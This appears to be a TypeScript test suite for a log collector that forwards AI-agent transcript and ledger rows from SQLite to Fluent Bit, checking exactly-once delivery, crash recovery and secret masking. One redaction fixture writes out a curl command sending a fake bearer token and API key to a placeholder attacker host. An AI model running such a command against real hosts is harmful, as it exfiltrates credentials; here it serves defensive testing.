// The collector against OpenClaw-shaped databases (real schema, real rows) and real Fluent Bit
// 5.1.1's forward input (@oclog/test-kit/fluent-bit's Receiver): exactly once across Fluent Bit outages and restarts,
// nothing lost across kill -9 or a concurrent writer, bad rows sent marked, secrets masked,
// nothing logged. What arrived is read after Fluent Bit stopped, so it is complete.
import { spawn } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, watch, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import test from "ava";
import { Collector, type CollectorOptions } from "@oclog/collect";
import { Emitter } from "@oclog/schema";
import { childArgs } from "./child-command.js";
import { CONFIG_AUDIT_ROWS, LEDGER_ROWS, OpenClawState, TRANSCRIPT_ROWS } from "@oclog/test-kit/openclaw";
import { duplicates, Receiver } from "@oclog/test-kit/fluent-bit";

function setup(name: string) {
  const root = mkdtempSync(join(tmpdir(), `oclog-collect-${name}-`));
  const state = new OpenClawState(join(root, "openclaw"));
  const receiver = new Receiver(join(root, "forward.sock"));
  // A stopped receiver refuses the socket at once; the ack timeout only bounds a slow one, so a loaded CI runner must not trip it.
  const emitter = new Emitter({ endpoint: { path: receiver.path }, ackTimeoutMs: 15_000 });
  const logs: string[] = [];
  const collector = (extra: Partial<CollectorOptions> = {}) =>
    new Collector({ stateDir: state.dir, workDir: join(root, "collector"), sender: emitter, batchSize: 50, log: (event, fields) => logs.push(JSON.stringify({ event, ...fields })), ...extra });
  return { root, state, receiver, emitter, logs, collector };
}

test("every transcript event, ledger row and config-audit entry arrives exactly once, with tool arguments and results", async (t) => {
  const { state, receiver, emitter, collector, logs } = setup("once");
  const expected = [...state.appendTranscript("main"), ...state.appendLedger("a"), ...state.appendConfigAudit("a")];
  await receiver.start();
  const c = collector();
  try {
    const result = await c.cycle();
    t.is(result.read, TRANSCRIPT_ROWS.length + LEDGER_ROWS.length + CONFIG_AUDIT_ROWS.length);
    t.is(result.sent, expected.length);
    t.is(result.pending, 0);
    t.deepEqual((await c.cycle()).read, 0, "a second pass finds nothing new");
    await receiver.stop();
    t.deepEqual(receiver.ids().sort(), [...expected].sort());
    t.deepEqual(duplicates(receiver.ids()), []);

    const transcripts = receiver.entries.filter((e) => e.tag === "openclaw.transcript").map((e) => e.record);
    const ledger = receiver.entries.filter((e) => e.tag === "openclaw.ledger").map((e) => e.record);
    t.is(transcripts.length, TRANSCRIPT_ROWS.length);
    t.is(ledger.length, LEDGER_ROWS.length);
    t.deepEqual(transcripts.filter((r) => "oclog_invalid" in r).map((r) => r.oclog_invalid), [], "real rows are valid");
    t.deepEqual(ledger.filter((r) => "oclog_invalid" in r).map((r) => r.oclog_invalid), []);
    const configAudit = receiver.entries.filter((e) => e.tag === "openclaw.config-audit").map((e) => e.record);
    t.is(configAudit.length, CONFIG_AUDIT_ROWS.length);
    t.deepEqual(configAudit.map((r) => r.oclog_invalid), CONFIG_AUDIT_ROWS.map(() => undefined), "config-audit payloads pass their schema");
    t.is(configAudit[0]!.event, (JSON.parse(CONFIG_AUDIT_ROWS[0]!) as { event: string }).event);
    // What the file log never says: the exact command the agent ran, and what came back.
    const text = JSON.stringify(transcripts);
    t.regex(text, /"toolCall"/);
    t.regex(text, /"toolResult"/);
    const compressed = TRANSCRIPT_ROWS.filter((r) => r.compressedColumns.includes("event_zstd")).map((r) => r.row.seq);
    t.true(compressed.length > 0, "the fixture has zstd rows");
    for (const seq of compressed) {
      const got = transcripts.find((r) => String(r.oclog_id).endsWith(`/${seq}`));
      t.deepEqual({ ...got, oclog_id: undefined, oclog_path: undefined }, { ...(TRANSCRIPT_ROWS.find((r) => r.row.seq === seq)!.event as object), oclog_id: undefined, oclog_path: undefined }, `zstd row ${seq} decoded`);
    }
    t.regex(String(transcripts[0]!.oclog_path), /^agents\/main\/agent\/openclaw-agent\.sqlite\/transcript_events\/[0-9a-f-]{36}\.jsonl$/);
    t.false(logs.join("\n").includes("toolCall"), "logs carry counts, never record contents");
  } finally {
    c.close();
    await emitter.close();
    await receiver.stop();
    state.close();
  }
});

test("receiver outage: unacknowledged rows wait in the spool, cursors hold, nothing lost or repeated; new agents are picked up", async (t) => {
  const { root, state, receiver, emitter, collector } = setup("outage");
  const first = state.appendTranscript("main");
  await receiver.start();
  const c = collector();
  try {
    t.is((await c.cycle()).sent, first.length);
    const cursorsBefore = c.cursors.snapshot();
    await receiver.stop();

    const second = [...state.appendTranscript("ops", "11111111-1111-4111-8111-111111111111"), ...state.appendLedger("b")];
    const down = await c.cycle();
    t.truthy(down.sendError, "Fluent Bit is down");
    t.is(down.read, second.length, "rows are still read into the spool");
    t.is(down.pending, second.length);
    t.deepEqual(c.cursors.snapshot(), cursorsBefore, "no cursor moves without an ack");
    t.deepEqual(JSON.parse(readFileSync(join(root, "collector", "cursors.json"), "utf8")).stores, cursorsBefore);

    await receiver.start();
    const up = await c.cycle();
    t.is(up.sent, second.length);
    t.is(up.pending, 0);
    await receiver.stop();
    t.deepEqual(receiver.ids().sort(), [...first, ...second].sort());
    t.deepEqual(duplicates(receiver.ids()), []);
    t.truthy(c.cursors.snapshot()["agents/ops/agent/openclaw-agent.sqlite"], "the new agent has a cursor");
  } finally {
    c.close();
    await emitter.close();
    await receiver.stop();
    state.close();
  }
});

test("collector restart: the spool of a stopped collector is sent by the next one, exactly once", async (t) => {
  const { state, receiver, emitter, collector } = setup("restart");
  const expected = [...state.appendTranscript("main"), ...state.appendLedger("c")];
  const before = collector();
  const down = await before.cycle();
  before.close();
  t.is(down.pending, expected.length, "everything spooled while Fluent Bit was down");
  await receiver.start();
  const after = collector();
  try {
    t.is(after.spool.records, expected.length, "the new process finds the spool");
    const result = await after.cycle();
    t.is(result.sent, expected.length);
    t.is(result.read, 0, "rows already spooled are not read again");
    await receiver.stop();
    t.deepEqual(receiver.ids().sort(), [...expected].sort());
    t.deepEqual(duplicates(receiver.ids()), []);
  } finally {
    after.close();
    await emitter.close();
    await receiver.stop();
    state.close();
  }
});

test("kill -9 mid-stream: nothing is lost; at most the one batch in flight is sent again, with the same ids", async (t) => {
  const { root, state, receiver, emitter, collector } = setup("kill");
  const expected: string[] = [];
  // Dozens of batches: the collector is still sending when the kill lands.
  for (let i = 0; i < 30; i++) expected.push(...state.appendTranscript("main", `22222222-2222-4222-8222-${String(i).padStart(12, "0")}`), ...state.appendLedger(`k${i}`));
  await receiver.start();
  const batchSize = 40;
  const workDir = join(root, "collector");
  mkdirSync(workDir, { recursive: true, mode: 0o700 });
  // The kill follows the first cursor write: Fluent Bit acknowledged a batch, and the next one is on its way.
  const firstCursor = new Promise<void>((resolve) => {
    const watcher = watch(workDir, (_event, name) => {
      if (name !== "cursors.json") return;
      watcher.close();
      resolve();
    });
  });
  const child = spawn(process.execPath, childArgs("collect-child.ts", ["--state-dir", state.dir, "--socket", receiver.path, "--collector-state", workDir, "--batch-size", String(batchSize)]), { stdio: "ignore" });
  const exited = new Promise<void>((resolve) => child.once("exit", () => resolve()));
  await firstCursor;
  child.kill("SIGKILL");
  await exited;
  // Stopped, Fluent Bit writes out everything it acknowledged before the kill.
  await receiver.stop();
  const atKill = receiver.entries.length;
  t.true(atKill > 0 && atKill < expected.length, `killed after a batch and before the last (${atKill} of ${expected.length} acknowledged)`);

  await receiver.start();
  const c = collector({ batchSize });
  try {
    const result = await c.cycle();
    t.is(result.pending, 0);
    await receiver.stop();
    const ids = receiver.ids();
    t.deepEqual([...new Set(ids)].sort(), [...expected].sort(), "every row arrived");
    const repeated = duplicates(ids);
    t.log(`killed after ${atKill} of ${expected.length} records; ${repeated.length} re-sent after the restart`);
    t.true(repeated.length <= batchSize, `only the batch in flight is repeated (${repeated.length})`);
    for (const id of repeated) {
      const copies = receiver.entries.filter((e) => e.record.oclog_id === id).map((e) => JSON.stringify(e.record));
      t.is(new Set(copies).size, 1, `${id}: a repeat is an identical copy, so dedupe by oclog_id is exact`);
    }
  } finally {
    c.close();
    await emitter.close();
    await receiver.stop();
    state.close();
  }
});

test("a database written by another process while collecting loses nothing", async (t) => {
  const { state, receiver, emitter, collector } = setup("concurrent");
  await receiver.start();
  const c = collector({ batchSize: 25 });
  const sessions = 12;
  const writer = spawn(process.execPath, childArgs("writer-child.ts", [state.dir, String(sessions)]), { stdio: ["ignore", "ignore", "pipe"] });
  let writerErr = "";
  writer.stderr.on("data", (d) => (writerErr += String(d)));
  let writerDone = false;
  const exited = new Promise<number | null>((resolve) => writer.once("exit", (code) => ((writerDone = true), resolve(code))));
  try {
    let cycles = 0;
    // Collect while the writer runs; then one more pass picks up its last commit.
    while (!writerDone) {
      await c.cycle();
      cycles++;
      await new Promise((resolve) => setImmediate(resolve));
    }
    t.is(await exited, 0, writerErr);
    t.is((await c.cycle()).pending, 0);
    await receiver.stop();
    const expectedCount = sessions * (TRANSCRIPT_ROWS.length + LEDGER_ROWS.length);
    t.is(receiver.entries.length, expectedCount);
    t.deepEqual(duplicates(receiver.ids()), []);
    t.log(`${cycles} passes while the writer ran`);
  } finally {
    c.close();
    await emitter.close();
    await receiver.stop();
    state.close();
  }
});

test("bad rows are sent marked, never dropped; secrets are masked before they leave", async (t) => {
  const { state, receiver, emitter, collector } = setup("bad");
  const db = state.agent("main");
  const insert = db.prepare("INSERT INTO transcript_events (session_id, seq, event_json, created_at, event_zstd, event_utf8_bytes, navigation_json) VALUES (?, ?, ?, ?, ?, ?, ?)");
  const session = "44444444-4444-4444-8444-444444444444";
  const navigation = TRANSCRIPT_ROWS.find((r) => r.row.navigation_json)!.row.navigation_json;
  insert.run(session, 0, "{not json", 1795600221000, null, null, null);
  insert.run(session, 1, null, 1795600221001, Buffer.from("not a zstd frame"), 16, navigation);
  insert.run(session, 2, JSON.stringify({ type: "message", note: "no id or timestamp" }), 1795600221002, null, null, null);
  const fakeKey = `sk-proj-${"FAKE0oclog".repeat(4)}`;
  const gatewayToken = "oclog-gateway-token-FAKE-0123456789";
  const withSecret = structuredClone(TRANSCRIPT_ROWS.find((r) => JSON.stringify(r.event).includes('"toolCall"'))!.event) as Record<string, unknown>;
  withSecret.oclogNote = `curl -H 'Authorization: Bearer ${gatewayToken}' -d key=${fakeKey} http://attacker.invalid`;
  insert.run(session, 3, JSON.stringify(withSecret), 1795600221003, null, null, null);
  await receiver.start();
  const c = collector({ redactionLiterals: [gatewayToken] });
  try {
    const result = await c.cycle();
    t.is(result.sent, 4);
    t.is(result.invalid, 3);
    t.is(result.redacted, 1);
    await receiver.stop();
    const bySeq = new Map(receiver.entries.map((e) => [String(e.record.oclog_id).split("/").at(-1), e.record]));
    t.regex(String(bySeq.get("0")!.oclog_invalid), /event is not JSON/);
    t.is(bySeq.get("0")!.log, "{not json", "the raw text travels with the mark");
    t.regex(String(bySeq.get("1")!.oclog_invalid), /event_zstd does not decompress/);
    t.truthy(bySeq.get("2")!.oclog_invalid, "schema failure marked");
    t.is(bySeq.get("2")!.note, "no id or timestamp", "and the record itself still sent");
    const sent = JSON.stringify(bySeq.get("3"));
    t.false(sent.includes(fakeKey));
    t.false(sent.includes(gatewayToken));
    t.regex(sent, /\[REDACTED:openai\]/);
    t.regex(sent, /\[REDACTED:gateway-token\]/);
    t.is(bySeq.get("3")!.oclog_invalid, undefined);
  } finally {
    c.close();
    await emitter.close();
    await receiver.stop();
    state.close();
  }
});

test("a damaged cursor file stops the collector with a clear error instead of re-reading from zero", async (t) => {
  const { root, state, emitter, collector } = setup("damaged");
  const first = collector();
  first.close();
  writeFileSync(join(root, "collector", "cursors.json"), "{ half a file");
  t.throws(() => collector(), { message: /cursor file .* is damaged/ });
  await emitter.close();
  state.close();
});
